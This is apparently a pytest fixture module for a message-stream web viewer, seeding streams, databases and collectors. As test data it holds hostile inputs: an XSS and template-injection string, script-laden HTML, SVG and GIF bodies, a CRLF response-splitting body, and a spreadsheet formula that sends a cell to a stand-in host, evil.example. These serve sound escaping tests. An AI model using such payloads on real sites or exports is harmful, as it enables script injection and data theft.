"""What the page shows in these tests: a database and streams of their own, recorded once for all tests of a process."""

import base64
import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from random import Random
from typing import Any, Final
from urllib.parse import urlencode

import psycopg
import pytest

import relatum
from relatum import Broker, MessageCollector, SerialConsumer, SerializationContexts
from relatum.collecting import Bulk, ExecutorOptions, collector_status
from relatum.keys import KeyDefinition
from relatum.store.database import make_engine
from relatum.superstreams import Layout
from relatum_consumer import Expectation
from relatum_consumer.expectations import add_expectations
from relatum_consumer.web import WebOptions
from tests.support import declare_stream, delete_stream, publish_plain, record, unique_name, wait_until
from tests.support.databases import Databases, user_in
from tests.support.groups import group_id, of_group, whole_group
from tests.support.place import Place
from tests.support.super_streams import super_stream
from tests.support.web import Asking, asking

HOSTILE: Final = """<img src=x onerror=hacked()>"'`{{7*7}}/..\u202e%2f#?&東"""
"""Text that would do harm wherever it were taken for what it is not."""

KEYS: Final = [
    KeyDefinition("order_id"),
    KeyDefinition("host"),
    KeyDefinition("place", source=("header:shelf", "header:row")),
    KeyDefinition("card"),
    relatum.GROUP_KEY,
]

TIME_US: Final = 1_700_000_000_000_000
MANY: Final = 230
"""Messages that share a value, many of them of one moment."""


SECRET = "4711-secret"
NUMBER = "000042"

MASKED_KEYS = [
    KeyDefinition("card", masked=True),
    KeyDefinition("again", source="header:card"),
    KeyDefinition("at", source=("header:card", "header:shop")),
    KeyDefinition("number", type="integer", masked=True),
    KeyDefinition("paid_by", names="card"),
    KeyDefinition("shop"),
]

MASKED_HEADERS = {"card": SECRET, "shop": "north", "number": NUMBER, "paid_by": SECRET}


PNG: Final = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"
"""A red point, in base64."""

BODIES: Final[list[bytes]] = [
    json.dumps({"order": {"id": 7, "lines": [{"sku": "a", "price": 1.10}] * 3}, "note": HOSTILE}).encode(),
    HOSTILE.encode(),
    b"<!doctype html><script>hacked()</script>",
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='hacked()'><script>hacked()</script></svg>",
    base64.b64decode(PNG),
    b"GIF89a<script>hacked()</script>",
    bytes(range(256)) * 40,
    b"",
    b"long " * 40_000,
    b'{"' + b"deep" * 10 + b'":' + b"[" * 500 + b"]" * 500 + b"}",
    b"\xef\xbb\xbf{}",
    b"data:text/html,<script>hacked()</script>\r\n\r\nHTTP/1.1 200 OK",
]


FAILED: Final = 5
"""Messages of which the collector's executor says that they failed."""

GROUPED: Final = [
    *whole_group(1, 3, time_us=TIME_US),
    *(of_group(2, number, time_us=TIME_US + number) for number in (1, 2, 5)),
    *(of_group(3, number, last=number != 2, time_us=TIME_US + 9) for number in (1, 2, 3)),
    *(of_group(4, number, last=number == 4, time_us=TIME_US - 9) for number in (2, 4)),
]
"""A group that is whole, one that lacks 3, 4 and its last, one of two lasts, and one that lacks 1 and 3."""

TAKEN: Final = 12 + len(GROUPED)
"""Messages that the collector takes."""


@dataclass(frozen=True)
class World:
    """What pages show, with the options of a page on it.

    Attributes:
        orders: A stream of `BODIES`, then `MANY` messages of one host, then one that is not recorded.
        payments: A stream whose name is hostile; one message for each body, and then those of groups.
        placed: A super stream with three contexts, one of which was moved.
    """

    options: dict[str, Any]
    orders: str
    payments: str
    first_of_many: int
    placed: str

    def page(self, **options: Any) -> WebOptions:
        """The options of a page on it, which is patient."""
        return WebOptions(**(self.options | {"timeout_s": 60.0} | options))


def expectations(orders: str, payments: str) -> list[Expectation]:
    return [
        Expectation("answered <b>", orders, "host", payments, 60),
        Expectation("paid", orders, "order_id", payments, 3600),
        Expectation("patient", orders, "host", payments, 20 * 365 * 86_400),
        Expectation("shelved", orders, "place", payments, 60),
        Expectation("swift", orders, "card", payments, 0.0001),
    ]


@contextmanager
def filled(amqp_url: str, streams: dict[str, list[Any]]) -> Iterator[None]:
    """Streams of these names and messages, for the block."""
    try:
        for name, messages in streams.items():
            declare_stream(amqp_url, name)
            publish_plain(amqp_url, name, messages)
        yield
    finally:
        for name in streams:
            delete_stream(amqp_url, name)


@contextmanager
def held_up(url: str) -> Iterator[Callable[[], int]]:
    """A database that answers no lookup; gives what says how many sessions wait for it."""
    waiting = "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND datname = current_database()"
    with psycopg.connect(url, autocommit=True) as watching, psycopg.connect(url) as holding:
        holding.execute("LOCK TABLE relatum.relationships IN ACCESS EXCLUSIVE MODE")
        yield lambda: int(watching.execute(waiting).fetchall()[0][0])
        holding.rollback()


@pytest.fixture(autouse=True)
def patient(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """Have the page take no busy machine for a server that is away or slow, but where tests are about such servers."""
    if request.node.path.stem not in ("test_browser", "test_mcp_guards", "test_truth"):
        for limit in ("site.ANSWER_S", "missing.COUNTED_S", "groups.CONSUMERS_S", "endpoint.PATIENCE_S"):
            monkeypatch.setattr(f"relatum_consumer.web.{limit}", 30.0)


@pytest.fixture(scope="session")
def web_database_url(_databases: Databases) -> Iterator[str]:
    url = _databases.take()
    yield url
    _databases.give_back(url)


@pytest.fixture
def reader_url(web_database_url: str) -> Iterator[str]:
    """The URL of a user in `relatum_reader`, for the database that is shared."""
    with user_in(web_database_url, "relatum_reader") as url:
        yield url


@pytest.fixture(scope="session")
def world(amqp_url: str, broker: Broker, web_database_url: str) -> Iterator[World]:
    orders, payments = unique_name("orders"), f'{unique_name("pay")} "/<b>?#%41&ö'
    odd = {"order_id": f"o-{HOSTILE}", "card": "4711-secret", "large": 2**62, "flag": True, HOSTILE[:40]: HOSTILE}
    shelf = {"shelf": "a|b", "row": "7"}
    bodies = [(body, odd | shelf | {"relatum_time": TIME_US + n}) for n, body in enumerate(BODIES)]
    many = [(b"%d" % n, {"host": "busy", "relatum_time": TIME_US + 1_000_000 * (n // 60)}) for n in range(MANY)]
    paid = [(b"paid", odd | {"relatum_time": TIME_US + 500 + n}) for n in range(12)]
    with filled(amqp_url, {orders: bodies + many, payments: paid + GROUPED}), super_stream(broker, 2) as layout:
        engine = make_engine(web_database_url)
        record(amqp_url, engine, orders, payments, keys=KEYS)
        engine.dispose()
        add_expectations(web_database_url, expectations(orders, payments))
        publish_plain(amqp_url, orders, [(b"later", {"host": "late", "order_id": "late"})])
        _collect(amqp_url, web_database_url, payments)
        _place(amqp_url, web_database_url, layout)
        options = {"broker": broker, "database": web_database_url}
        yield World(options, orders, payments, len(BODIES), layout.super_stream)


def _collect(broker: str, database: str, stream: str) -> None:
    """Have a collector take the stream's messages: the first ones fail, and say why."""

    def take(bulk: Bulk) -> None:
        for each in bulk.messages:
            if each.message.offset < FAILED:
                bulk.failed(each, f"no such account: {HOSTILE}", retry=False)

    collector = MessageCollector("books", database=database, broker=broker, streams=[stream], type_of=lambda _: "order")
    collector.register_executor("order", take, ExecutorOptions(max_age_s=0.1))
    with collector:
        wait_until(lambda: sum(collector_status(database)[0].counts[each] for each in ("failed", "succeeded")) >= TAKEN)


def _place(broker: str, database: str, layout: Layout) -> None:
    with SerializationContexts(layout.super_stream, database, broker=broker, header="order_id") as contexts:
        first, second = (each.stream for each in layout)
        contexts.assign(["a & b", "c", f"o-{HOSTILE}"], first)
        # Before the move: a member that meets it may or may not hold back messages.
        with SerialConsumer(layout.super_stream, "billing", database=database, broker=broker) as consumer:
            assert consumer.status().partitions
        contexts.move("c", second)


@pytest.fixture(scope="session")
def page(world: World) -> Iterator[Asking]:
    with asking(world.page()) as page:
        yield page


def page_of(place: Place, **options: Any) -> WebOptions:
    """The options of a page on the test's own database, which is patient."""
    given = {"broker": place.broker, "database": place.database, "timeout_s": 60.0}
    return WebOptions(**(given | options))


@pytest.fixture
def own(place: Place) -> Iterator[Asking]:
    with asking(page_of(place)) as page:
        yield page


@pytest.fixture
def masked(place: Place) -> str:
    """The stream: three messages that have masked values, and one that has none."""
    place.put(*[(f"it is {SECRET}".encode(), MASKED_HEADERS)] * 3, (b"shown", {"shop": "north"}))
    place.record(keys=MASKED_KEYS)
    return place.stream


def views(world: World) -> dict[str, str]:
    return {
        "search-empty": "/",
        "search": "/?key=order_id&value=late&complete=1",
        "search-many": "/?key=host&value=busy&limit=30",
        "search-absent": "/?key=order_id&value=nobody",
        "search-refused": "/?key=nope&value=1",
        "message-json": f"/message?stream={world.orders}&offset=0",
        "message-text": f"/message?stream={world.orders}&offset=2",
        "message-hex": f"/message?stream={world.orders}&offset=6",
        "message-missing": f"/message?stream={world.orders}&offset=999999",
        "conversation-empty": "/trace",
        "conversation-shared": f"/trace?stream={world.orders}&offset=0",
        "conversation-stopped": "/trace?key=host&value=busy",
        "conversation-refused": "/trace?key=nope&value=1",
        "streams": "/streams",
        "stream": f"/stream?stream={world.orders}",
        "missing": "/missing?span=all",
        "missing-swift": "/missing/expectation?name=swift&span=all",
        "missing-answered": "/missing/expectation?name=answered+%3Cb%3E&span=all&limit=20",
        "missing-patient": "/missing/expectation?name=patient&span=all&limit=20",
        "missing-refused": "/missing/expectation?name=none",
        "groups": "/groups",
        "group": f"/groups/group?id={group_id(2)}",
        "group-refused": "/groups/group?id=x",
        "collectors": "/collectors",
        "collector": "/collectors/collector?name=books",
        "message-collected": f"/message?{urlencode({'stream': world.payments, 'offset': 1})}",
        "contexts": "/contexts",
        "super-stream": f"/contexts/super-stream?name={world.placed}",
        "live": "/live",
        "live-refused": "/live?stream=nope",
        "not-found": "/nothing",
    }


TALK_KEYS: Final = [
    KeyDefinition("order_id"),
    KeyDefinition("card"),
    KeyDefinition("host"),
    KeyDefinition("id"),
    KeyDefinition("cause", names="id"),
    KeyDefinition("place", source=("header:shelf", "header:row")),
]

FORMULA: Final = """=HYPERLINK("http://evil.example/?x="&A1;"a")"""

HOUR_US: Final = 3_600_000_000

COMMON: Final = 230
"""Messages that have one host: more than are followed by default."""


@dataclass(frozen=True)
class Talks(World):
    """Conversations of `orders`, `payments` and `mails`, besides what a world has.

    At 0 of `orders` begins one: a payment named it 350 ms later, a mail named that after three hours; another order
    shares its order_id, a hostile one, and its card. Behind them lie `COMMON` messages of one host, and larger
    conversations: `order_id` is "talk-200", "talk-1000".
    """

    mails: str = ""


def _said(at_us: int, **values: Any) -> tuple[bytes, dict[str, Any]]:
    return b"said", values | {"relatum_time": TIME_US + at_us}


def _large(streams: list[str], count: int, chance: Random) -> dict[str, list[Any]]:
    """A conversation of so many messages: each after the first came from one of those before it."""
    held: dict[str, list[Any]] = {name: [] for name in streams}
    at_us = 0
    for n in range(count):
        at_us += chance.choice([900, 40_000, 700_000, 20 * HOUR_US if n % 50 == 49 else 3_000])
        cause = {} if not n else {"cause": f"{count}-{chance.randrange(max(0, n - 9), n)}"}
        message = _said(at_us, order_id=f"talk-{count}", id=f"{count}-{n}", card=f"card-{count}-{n // 7}", **cause)
        held[chance.choice(streams)].append(message)
    return held


@pytest.fixture(scope="session")
def talks(amqp_url: str, broker: Broker, _databases: Databases) -> Iterator[Talks]:
    database_url = _databases.take()
    orders, payments, mails = unique_name("orders"), f'{unique_name("=pay")} "/<b>?#%41&ö', unique_name("mails")
    # Larger ones are in streams with ordinary names: the names count towards the size of a page, too.
    large = [orders, mails, unique_name("refunds")]
    streams = list(dict.fromkeys([orders, payments, *large]))
    order = {"order_id": f"o-{HOSTILE}", "card": SECRET}
    held: dict[str, list[Any]] = {name: [] for name in streams} | {
        orders: [
            _said(0, id="a", shelf="a|b", row="7", **order),
            _said(900_000, id="d", **order),
            _said(0, order_id=FORMULA),
            _said(1, order_id=FORMULA, cause="nobody"),
            _said(5, large=1),
        ],
        payments: [_said(350_000, id="b", cause="a", **order), _said(2, order_id=FORMULA, shelf="a|b", row="7")],
        mails: [_said(3 * HOUR_US, id="c", cause="b")],
    }
    held[orders] += [_said(n, host="busy") for n in range(COMMON)]
    for count in (200, 1_000):
        for name, messages in _large(large, count, Random(count)).items():
            held[name] += messages
    with filled(amqp_url, held):
        engine = make_engine(database_url)
        record(amqp_url, engine, *streams, keys=TALK_KEYS)
        engine.dispose()
        yield Talks({"broker": broker, "database": database_url}, orders, payments, 0, placed="", mails=mails)
    _databases.give_back(database_url)
